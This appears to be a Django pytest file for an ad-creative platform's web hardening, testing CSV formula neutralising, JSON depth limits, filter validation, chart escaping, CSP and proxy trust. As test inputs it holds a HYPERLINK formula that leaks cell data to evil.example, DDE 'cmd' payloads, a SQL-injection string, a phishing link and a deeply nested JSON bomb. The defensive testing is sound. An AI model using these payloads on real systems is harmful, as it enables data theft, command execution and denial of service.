"""Web hardening (issue 18 items 2, 5, 6, 8, 11): CSV exports, JSON depth, dashboard filters, chart
text, security headers, proxy trust, font upload errors and who may read the API docs.

The project's modules these tests exercise are imported inside the tests, so each test fails on
its own where the fix is missing.
"""

import csv
import io
import json
import os
import re
import subprocess
import sys
import tempfile
from datetime import timedelta
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from analytics.models import HourlyRollup
from analytics.services import daily_rollups_build
from campaigns.models import AdCopySet, Campaign, Creative, Placement, Product
from campaigns.serving import placement_key_issue
from campaigns.tests.factories import CreativeFactory
from templates_app.models import Template
from templates_app.services import template_create

pytestmark = pytest.mark.django_db
ROOT = Path(settings.BASE_DIR)
SPEC = json.loads((ROOT / "synthesis" / "templates" / "single-hero.json").read_text())

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
LINK = 'Winter <a href="https://evil.example/login">Session expired - sign in again</a>'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _traffic(owner, *, name: str, provenance: dict | None = None, product_key: str = "SKU-1"):
    """A template, placement and campaign named `name`, one creative of them and 2 h ago 100 impressions, 5 clicks."""
    template = template_create(name=name, spec=SPEC, owner=owner)
    placement = Placement.objects.create(name=name, channel="dsp", sizes=[[300, 250]])
    campaign = Campaign.objects.create(name=name, copy=AdCopySet.objects.create(name="copy", titles=["t"]))
    campaign.placements.add(placement)
    creative = CreativeFactory(
        campaign=campaign, product_key=product_key, template_version=template.current_version,
        file="creatives/a.jpg", content_hash="a", aesthetic_score=70, theme_colours=["#c8102e"],
        provenance=provenance or {"template": name, "palette": {"name": name}}, state=Creative.State.PENDING,
    )  # fmt: skip
    hour = timezone.now().replace(minute=0, second=0, microsecond=0) - timedelta(hours=2)
    HourlyRollup.objects.create(
        hour=hour, creative=creative, placement=placement, template_version=template.current_version,
        impressions=100, impressions_gross=100, clicks=5, clicks_gross=5,
    )  # fmt: skip
    daily_rollups_build(hour, hour + timedelta(hours=1))
    return campaign, placement, timezone.localtime(hour).date()


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# --- 2. CSV formula injection ---------------------------------------------------------------------------------


@pytest.mark.parametrize("export", ["leaderboard", "elements"])
def test_csv_exports_write_formula_names_as_text(client, designer, analyst, export):
    """A name the analyst's spreadsheet would run as a formula reaches every CSV export with a leading
    single quote; no text cell of the export starts with =, +, -, @, tab or carriage return."""
    provenance = {
        "template": FORMULA,
        "palette": {"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
        "layers": {"deco-1": {"asset": "-2+3+cmd|' /C calc'!A0"}, "badge": {"asset": "+1+1"}},
    }
    _, _, day = _traffic(designer, name=FORMULA, provenance=provenance)
    client.force_login(analyst)

    rows = _csv_rows(client.get("/dashboards/", {"from": day.isoformat(), "export": export}))

    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
    if export == "elements":
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'-2+3+cmd|' /C calc'!A0, '+1+1" not in cells


@pytest.mark.parametrize("export, first_number_column", [("leaderboard", 1), ("elements", 2)])
def test_csv_export_figures_stay_numbers(client, designer, analyst, export, first_number_column):
    """The project's own figures (counts, rates and their intervals) are written as plain numbers, not quoted text."""
    _, _, day = _traffic(designer, name="Winter hero")
    client.force_login(analyst)

    rows = _csv_rows(client.get("/dashboards/", {"from": day.isoformat(), "export": export}))

    figures = [cell for row in rows[1:] for cell in row[first_number_column:]]
    assert figures and all(_is_number(cell) for cell in figures), figures
    assert "0.05000" in figures  # 5 clicks in 100 impressions


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_formula_trigger_is_neutralised_and_negative_numbers_are_not(trigger):
    """OWASP's triggers each get a leading quote in a text cell; -3.5 written as a number stays -3.5."""
    from creativeadmin.csv_export import csv_response

    response = csv_response("x.csv", ["name", "value"], [[f"{trigger}1+1", -3.5], ["plain", Decimal("-0.25")]])

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == [f"'{trigger}1+1", "-3.5"]
    assert rows[2] == ["plain", "-0.25"]


def test_every_csv_writer_uses_the_one_helper():
    """No module writes CSV with csv.writer but the helper (so a new export cannot skip the neutralising)."""
    writers = [
        path.relative_to(ROOT).as_posix()
        for app in ("accounts", "analytics", "campaigns", "creativeadmin", "demo", "health", "templates_app")
        for path in (ROOT / app).rglob("*.py")
        if "csv.writer" in path.read_text() and "/tests/" not in path.as_posix()
    ]
    assert writers == ["creativeadmin/csv_export.py"]


# --- 5. deeply nested JSON ----------------------------------------------------------------------------------

DEEP = "[" * 100_000 + "]" * 100_000


def _max_depth() -> int:
    from creativeadmin.json_input import JSON_MAX_DEPTH

    return JSON_MAX_DEPTH


@pytest.fixture
def placement_key(db) -> str:
    return placement_key_issue(placement=Placement.objects.create(name="feed", channel="dsp", sizes=[[300, 250]]))


@pytest.fixture
def editor_template(designer):
    return template_create(name="hero", spec=SPEC, owner=designer)


def _post_deep(client, request, endpoint: str, body: str):
    if endpoint in ("/api/v1/events/batch", "/api/v1/conversions"):
        key = request.getfixturevalue("placement_key")
        return client.post(endpoint, body, content_type="application/json", HTTP_X_PLACEMENT_KEY=key)
    if endpoint.startswith("/api/v1/products"):
        client.force_login(request.getfixturevalue("operator"))
        return client.post(endpoint, body, content_type="application/json")
    client.force_login(request.getfixturevalue("designer"))
    template = request.getfixturevalue("editor_template")
    return client.post(endpoint.format(pk=template.pk), body, content_type="application/json")


ENDPOINTS = [
    "/api/v1/events/batch",
    "/api/v1/conversions",
    "/api/v1/products/",
    "/api/v1/products/bulk",
    "/templates/{pk}/editor/render",
    "/templates/{pk}/editor/save",
]


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_deeply_nested_json_is_a_400_naming_the_limit(client, request, endpoint):
    """100,000 `[` then 100,000 `]` is a 400 in the error contract whose message names the depth limit,
    not a RecursionError."""
    response = _post_deep(client, request, endpoint, DEEP)

    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "json_too_deep"
    assert str(_max_depth()) in body["message"]
    assert body["extra"] == {"max_depth": _max_depth()}


@pytest.mark.parametrize("endpoint", ["/api/v1/events/batch", "/api/v1/products/bulk", "/templates/{pk}/editor/save"])
def test_json_one_level_past_the_limit_inside_an_object_is_refused(client, request, endpoint):
    """The limit counts objects and arrays wherever they are: {"events": [[...]]} one level too deep is a 400."""
    depth = _max_depth()
    body = '{"events": ' + "[" * depth + "]" * depth + "}"

    response = _post_deep(client, request, endpoint, body)

    assert response.status_code == 400
    assert response.json()["code"] == "json_too_deep"


def test_json_within_the_limit_is_read_as_before_and_nan_is_still_refused(client, operator):
    """The depth-bounded default parser reads an ordinary body as DRF's did, and still refuses NaN."""
    client.force_login(operator)

    created = client.post("/api/v1/ad-copy/", {"name": "Winter", "titles": ["Sale"]}, content_type="application/json")
    nan = client.post("/api/v1/ad-copy/", '{"name": "x", "titles": [NaN]}', content_type="application/json")

    assert created.status_code == 201 and AdCopySet.objects.get().titles == ["Sale"]
    assert nan.status_code == 400 and nan.json()["code"] == "parse_error"


def test_depth_is_counted_without_recursion_and_ignores_brackets_in_strings():
    """A million levels are counted (no recursion to exhaust); brackets and escaped quotes inside strings do not
    nest; at the limit JSON parses, one past it is refused naming the limit."""
    from creativeadmin.json_input import JSON_MAX_DEPTH, JSONTooDeep, json_depth, json_loads_bounded

    assert json_depth("[" * 1_000_000 + "]" * 1_000_000) == 1_000_000
    assert json_depth(r'["[[[[", {"a": "}}\"[[[", "b": [1]}]') == 3
    assert json_depth('"[[["') == 0 and json_depth("7") == 0
    assert json_loads_bounded("[" * JSON_MAX_DEPTH + "]" * JSON_MAX_DEPTH) is not None
    with pytest.raises(JSONTooDeep, match=str(JSON_MAX_DEPTH)):
        json_loads_bounded("[" * (JSON_MAX_DEPTH + 1) + "]" * (JSON_MAX_DEPTH + 1))


def test_a_form_encoded_api_body_is_refused_415_so_no_field_escapes_the_json_depth_check(client, operator):
    """The API reads JSON bodies only: a form-encoded body (where a JSON field such as highlights would arrive as
    text, outside the parser's depth check) is refused 415 in the error contract, and nothing is stored."""
    client.force_login(operator)

    response = client.post("/api/v1/products/", {"sku": "S-1", "title": "t", "price": "9", "highlights": DEEP})

    assert response.status_code == 415
    assert response.json()["code"] == "unsupported_media_type"
    assert not Product.objects.exists()


def test_deep_spec_file_in_the_admin_is_a_form_error(client, designer):
    """A template spec uploaded as a .json file nested too deeply is a form error naming the file and the limit."""
    client.force_login(designer)
    upload = SimpleUploadedFile("deep.json", DEEP.encode(), content_type="application/json")

    response = client.post("/admin/templates_app/template/add/", {"name": "Deep", "spec_file": upload})

    assert response.status_code == 200  # the form again, with the error
    assert "deep.json" in response.content.decode() and str(_max_depth()) in response.content.decode()
    assert not Template.objects.exists()


def test_deep_spec_text_in_the_admin_is_a_form_error(client, designer):
    """A spec pasted into the admin's text field nested too deeply is a form error naming the limit."""
    client.force_login(designer)

    response = client.post("/admin/templates_app/template/add/", {"name": "Deep", "spec": DEEP})

    assert response.status_code == 200
    assert f"the limit is {_max_depth()}" in response.content.decode()
    assert not Template.objects.exists()


def test_deep_json_in_an_admin_json_field_is_a_form_error(client, operator):
    """Any JSON field of an admin form (a placement's sizes) refuses deep nesting with a form error."""
    client.force_login(operator)
    form = {"name": "Deep", "channel": "dsp", "format": "image", "sizes": DEEP, "max_file_kb": "150", "active": "on"}

    response = client.post("/admin/campaigns/placement/add/", form)

    assert response.status_code == 200
    assert f"the limit is {_max_depth()}" in response.content.decode()
    assert not Placement.objects.exists()


def test_every_admin_json_form_field_is_depth_bounded(rf, django_user_model):
    """Every ModelAdmin's form (add and change) uses the depth-bounded JSON field for JSON model fields."""
    from django.contrib import admin
    from django.forms import JSONField

    from creativeadmin.json_input import BoundedJSONFormField

    request = rf.get("/")
    request.user = django_user_model.objects.create_superuser("root", password="pw-root-long")
    plain = []
    for model, model_admin in admin.site._registry.items():
        for obj in (None, model()):
            form = model_admin.get_form(request, obj)
            plain += [
                f"{model.__name__}.{name}"
                for name, field in form.base_fields.items()
                if isinstance(field, JSONField) and not isinstance(field, BoundedJSONFormField)
            ]
    assert plain == []


def test_every_writable_api_json_field_is_depth_bounded():
    """Every ModelSerializer of the API parses a JSON field it is sent form-encoded with the depth check."""
    from rest_framework import serializers

    import creativeadmin.urls  # noqa: F401  (imports every API module, so each serializer class exists)
    from creativeadmin.json_input import BoundedJSONSerializerField

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    project = [
        c
        for c in subclasses(serializers.ModelSerializer)
        if c.__module__.split(".")[0] in ("campaigns", "templates_app", "analytics")
    ]
    plain = [
        f"{cls.__name__}.{name}"
        for cls in project
        for name, field in cls().get_fields().items()
        if isinstance(field, serializers.JSONField)
        and not field.read_only
        and not isinstance(field, BoundedJSONSerializerField)
    ]
    assert len(project) >= 5 and plain == []


# --- 6. dashboard filters ------------------------------------------------------------------------------------

BAD_FILTERS = [
    ({"campaign": "abc"}, "campaign"),
    ({"placement": "1' OR '1'='1"}, "placement"),
    ({"campaign": "99999999999999999999999"}, "campaign"),
    ({"placement": "-1"}, "placement"),
    ({"to": "9999-12-31"}, "to"),
    ({"from": "0001-01-01"}, "from"),
    ({"from": "2024-02-30"}, "from"),
    ({"to": "tomorrow"}, "to"),
    ({"from": "2024-05-02", "to": "2024-05-01"}, "from"),
    ({"segment": "s" * 65}, "segment"),
]


@pytest.mark.parametrize("params, named", BAD_FILTERS, ids=[str(p) for p, _ in BAD_FILTERS])
def test_bad_dashboard_filters_are_a_400_saying_what_is_wrong(client, analyst, params, named):
    """A filter that is not a campaign or placement id, an impossible or out-of-range date, a reversed range or
    an overlong segment is a 400 showing the page with the message, never a 500."""
    client.force_login(analyst)

    response = client.get("/dashboards/", params)

    assert response.status_code == 400
    html = response.content.decode()
    assert 'class="errorlist filter-errors"' in html
    assert f"{named}" in html.split('class="errorlist filter-errors"', 1)[1].split("</ul>", 1)[0]


@pytest.mark.parametrize("export", ["leaderboard", "elements"])
@pytest.mark.parametrize("params, named", BAD_FILTERS[:5], ids=[str(p) for p, _ in BAD_FILTERS[:5]])
def test_bad_filters_on_a_csv_export_are_a_400_in_text(client, analyst, params, named, export):
    """The CSV exports take the same filters: a bad one is a plain-text 400 naming the parameter."""
    client.force_login(analyst)

    response = client.get("/dashboards/", {**params, "export": export})

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    assert response.content.decode().startswith(f"{named}: ")


def test_valid_filters_still_narrow_the_dashboard(client, designer, analyst):
    """A real campaign, placement and date range are accepted and select that campaign's traffic."""
    campaign, placement, day = _traffic(designer, name="Winter hero")
    client.force_login(analyst)

    params = {"from": day.isoformat(), "to": day.isoformat(), "campaign": campaign.pk, "placement": placement.pk}
    response = client.get("/dashboards/", params)

    assert response.status_code == 200
    assert "Template leaderboard" in response.content.decode()


# --- 8. user-provided names in Plotly figures ------------------------------------------------------------------


def _figures(html: str) -> list[dict]:
    return [
        json.loads(block)
        for block in re.findall(r'<script id="[\w-]+-figure" type="application/json">(.*?)</script>', html, re.S)
    ]


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def test_chart_legends_and_hovers_show_names_as_text_not_links(client, designer, analyst):
    """A campaign, template, placement and product named with an <a href> reach every figure escaped (&lt;a ...):
    Plotly shows the characters and draws no link in a legend, hover or label."""
    _, _, day = _traffic(designer, name=LINK, product_key=LINK, provenance={"template": LINK})
    client.force_login(analyst)

    response = client.get("/dashboards/", {"from": day.isoformat()})

    figures = _figures(response.content.decode())
    assert len(figures) == 6
    strings = [s for figure in figures for s in _strings(figure["data"])]
    assert not [s for s in strings if "<a" in s or "<b" in s]
    escaped = LINK.replace("<", "&lt;").replace(">", "&gt;")
    names = [trace.get("name") for figure in figures for trace in figure["data"]]
    assert names.count(escaped) == 4  # template, placement, campaign CTR and campaign CVR legends
    hover = [t for figure in figures for trace in figure["data"] for t in trace.get("text") or []]
    assert escaped in hover  # the score-vs-CTR point's hover label


# --- 11. font upload errors ------------------------------------------------------------------------------------


def test_a_rejected_font_upload_names_the_uploaded_file_not_a_temporary_path():
    """A font that passes the signature check but does not load is refused naming the uploaded file, and the
    message carries no temporary path."""
    from templates_app.errors import UploadRejected
    from templates_app.services import font_register

    with pytest.raises(UploadRejected) as refused:
        font_register(family="Brand", data=b"\x00\x01\x00\x00" + b"not a font" * 50, filename="brand-bold.ttf")

    message = refused.value.message
    assert set(re.findall(r"[\w./-]+\.ttf", message)) == {"brand-bold.ttf"}  # no other file, temporary or not
    assert tempfile.gettempdir() not in message


def test_a_rejected_font_in_the_admin_shows_the_uploaded_name(client, designer):
    """The admin's font upload form shows the refusal with the uploaded file's name, no temporary path."""
    client.force_login(designer)
    upload = SimpleUploadedFile("brand-bold.ttf", b"\x00\x01\x00\x00" + b"not a font" * 50)
    form = {"family": "Brand", "weight": "400", "style": "normal", "face_index": "0", "file": upload}

    response = client.post("/admin/templates_app/font/add/", form)

    errors = re.findall(r'<ul class="errorlist[^"]*">(.*?)</ul>', response.content.decode(), re.S)
    assert response.status_code == 200 and errors
    assert set(re.findall(r"[\w./-]+\.ttf", " ".join(errors))) == {"brand-bold.ttf"}
    assert tempfile.gettempdir() not in " ".join(errors)


# --- 11. X-Forwarded-Proto: believed only from a named proxy ---------------------------------------------------


PRODUCTION_ENV = {
    "DEBUG": "false",
    "SECRET_KEY": "prod-" + "k3y-n0t-in-git-" * 4,
    "ALLOWED_HOSTS": "ads.example.com",
    "DATABASE_URL": "sqlite:////tmp/creativeadmin-check.sqlite3",
    "DJANGO_SETTINGS_MODULE": "creativeadmin.settings",
}
DROPPED = {"DEBUG", "SECRET_KEY", "MEDIA_STORAGE", "DJANGO_ALLOW_ASYNC_UNSAFE", "TRUSTED_PROXIES", "API_DOCS_PUBLIC"}


def _production(code: str, **env_overrides: str) -> subprocess.CompletedProcess:
    """Run `code` after django.setup() with the production settings (DEBUG off) and `env_overrides`."""
    env = {k: v for k, v in os.environ.items() if k not in DROPPED} | PRODUCTION_ENV | env_overrides
    program = "import django; django.setup()\n" + code
    return subprocess.run(
        [sys.executable, "-c", program], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120
    )


# An API path that names nothing: answered (404) without the database or the static files' manifest.
FORWARDED_HTTPS = """
from django.test import Client
client = Client(REMOTE_ADDR="{peer}")
response = client.get("/api/nothing", HTTP_HOST="ads.example.com", HTTP_X_FORWARDED_PROTO="https")
print(response.status_code, response.headers.get("Location", ""))
"""


def test_a_clients_x_forwarded_proto_does_not_turn_off_the_ssl_redirect():
    """In production with no trusted proxy named, a client saying X-Forwarded-Proto: https over plain HTTP is
    still redirected to HTTPS."""
    result = _production(FORWARDED_HTTPS.format(peer="203.0.113.9"))

    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["301", "https://ads.example.com/api/nothing"]


def test_x_forwarded_proto_is_believed_only_from_the_named_proxy():
    """With TRUSTED_PROXIES naming the proxy, its X-Forwarded-Proto: https is believed (no redirect); the same
    header from any other address is not (redirected)."""
    from_proxy = _production(FORWARDED_HTTPS.format(peer="10.0.0.5"), TRUSTED_PROXIES="10.0.0.0/24")
    from_client = _production(FORWARDED_HTTPS.format(peer="203.0.113.9"), TRUSTED_PROXIES="10.0.0.0/24")

    assert from_proxy.returncode == 0, from_proxy.stderr
    assert from_proxy.stdout.split() == ["404"]
    assert from_client.stdout.split() == ["301", "https://ads.example.com/api/nothing"]


# --- 11. Content-Security-Policy and Permissions-Policy --------------------------------------------------------


class _Scripts(HTMLParser):
    """Collects <script> elements (attributes, whether they have a body) and inline event handler attributes."""

    def __init__(self):
        super().__init__()
        self.scripts: list[dict] = []
        self.handlers: list[str] = []
        self._open: dict | None = None

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.handlers += [f"{tag} {name}" for name in attributes if name.startswith("on")]
        if tag == "script":
            self._open = {**attributes, "body": ""}
            self.scripts.append(self._open)

    def handle_data(self, data):
        if self._open is not None:
            self._open["body"] += data

    def handle_endtag(self, tag):
        if tag == "script":
            self._open = None


def _csp(response) -> dict[str, list[str]]:
    header = response.headers.get("Content-Security-Policy", "")
    return {d.split()[0]: d.split()[1:] for d in header.split(";") if d.strip()}


@pytest.fixture
def pages(designer, operator, analyst):
    """The site's pages with scripts: (user, url) for each."""
    _, _, _ = _traffic(designer, name="Winter hero")
    template = Template.objects.get(name="Winter hero")
    campaign = Campaign.objects.get(name="Winter hero")
    return [
        (None, "/"),
        (analyst, "/dashboards/"),
        (designer, "/api/docs/"),
        (designer, f"/templates/{template.pk}/editor/"),
        (designer, f"/templates/{template.pk}/sheet/"),
        (operator, f"/campaigns/{campaign.pk}/review/"),
        (designer, "/admin/"),
        (designer, f"/admin/templates_app/template/{template.pk}/change/"),
        (operator, "/admin/campaigns/campaign/add/"),
    ]


def test_every_page_has_a_csp_without_inline_script_and_a_permissions_policy(client, pages):
    """Each page answers with a Content-Security-Policy allowing scripts only from this site (no 'unsafe-inline',
    no 'unsafe-eval'), no plugins, no framing, and a Permissions-Policy; and its HTML has no inline script
    (only <script src> and JSON data blocks) and no inline event handlers, so it works under that policy."""
    for user, url in pages:
        client.logout()
        if user:
            client.force_login(user)

        response = client.get(url)

        assert response.status_code == 200, url
        policy = _csp(response)
        assert policy.get("script-src") == ["'self'"], url
        assert policy.get("default-src") == ["'self'"] and policy.get("object-src") == ["'none'"], url
        assert policy.get("frame-ancestors") == ["'none'"] and policy.get("base-uri") == ["'self'"], url
        assert "camera=()" in response.headers.get("Permissions-Policy", ""), url
        parsed = _Scripts()
        parsed.feed(response.content.decode())
        inline = [s for s in parsed.scripts if "src" not in s and s.get("type") != "application/json"]
        assert inline == [], url
        assert [s for s in parsed.scripts if "src" in s and s["body"].strip()] == [], url
        assert parsed.handlers == [], url


def test_swagger_ui_init_script_is_served_as_javascript(client, designer):
    """The docs page's own script comes from a URL (`?script`) answering JavaScript, which the CSP allows."""
    client.force_login(designer)
    parsed = _Scripts()
    parsed.feed(client.get("/api/docs/").content.decode())
    init = [s["src"] for s in parsed.scripts if "script" in s["src"].split("?", 1)[-1]]

    response = client.get(init[0])

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/javascript")
    assert b"SwaggerUIBundle" in response.content


def test_the_csp_allows_media_from_the_s3_store():
    """With S3 storage the policy lets pages show images and videos from the store's origin (the review gallery's
    creatives are signed S3 URLs), and nothing else besides the site."""
    code = "from django.conf import settings as s; print(' '.join(s.CONTENT_SECURITY_POLICY['img-src']))"

    result = _production(
        code, MEDIA_STORAGE="s3", AWS_STORAGE_BUCKET_NAME="c", AWS_S3_ENDPOINT_URL="http://10.0.0.9:9000"
    )

    assert result.stdout.split() == ["'self'", "data:", "blob:", "http://10.0.0.9:9000"], result.stderr


# --- 11. who may read the API schema and docs ------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/api/schema/", "/api/docs/"])
def test_api_schema_and_docs_need_a_login_unless_public(client, settings, designer, url):
    """With API_DOCS_PUBLIC off (production's default) an anonymous visitor is asked for credentials for the
    schema (401: a program may fetch it with its API key) and sent
    to the login page for the docs; a signed-in user gets them; API_DOCS_PUBLIC on opens them to anyone."""
    settings.API_DOCS_PUBLIC = False

    anonymous = client.get(url)
    client.force_login(designer)
    signed_in = client.get(url)
    client.logout()
    settings.API_DOCS_PUBLIC = True
    public = client.get(url)

    if url == "/api/schema/":
        assert anonymous.status_code == 401 and anonymous["WWW-Authenticate"].startswith("Bearer")
    else:
        assert anonymous.status_code == 302 and anonymous["Location"].startswith("/admin/login/?next=/api/docs/")
    assert signed_in.status_code == 200
    assert public.status_code == 200


def test_api_docs_are_private_by_default_in_production():
    """DEBUG off: the schema and docs need a login unless API_DOCS_PUBLIC=true says otherwise."""
    code = "from django.conf import settings; print(settings.API_DOCS_PUBLIC)"

    default = _production(code)
    opened = _production(code, API_DOCS_PUBLIC="true")

    assert default.stdout.strip() == "False", default.stderr
    assert opened.stdout.strip() == "True", opened.stderr
